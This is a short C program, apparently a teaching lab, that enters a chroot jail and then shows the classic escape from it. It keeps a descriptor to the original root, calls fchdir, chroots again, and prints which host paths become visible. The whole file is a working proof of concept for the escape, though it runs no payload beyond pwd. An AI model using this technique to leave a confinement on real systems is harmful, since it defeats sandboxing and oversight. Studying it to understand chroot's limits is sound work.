/* chroot into rootfs, look around, and the classic way out */
#include <sys/stat.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void exists(char *p) { printf("%s: %s\n", p, access(p, F_OK) == 0 ? "yes" : "no"); }

main(argc, argv)
int argc;
char **argv;
{
	int fd, i;
	if (chdir("rootfs") != 0) { perror("chdir"); exit(1); }
	fd = open("/", O_RDONLY);
	if (chroot(".") != 0) { perror("chroot"); exit(2); }
	exists("/bin/busybox");
	exists("/home/learner");
	exists("/../../etc/hostname");
	mkdir("tmp/x", 0755);
	fchdir(fd);
	exists("etc/hostname");
	chroot(".");
	exists("/etc/hostname");
	exists("/home/learner/rootfs/bin/busybox");
	rmdir("/home/learner/rootfs/tmp/x");
	fflush(stdout);
	execl("/bin/pwd", "pwd", (char *)0);
	perror("exec");
	return 3;
}
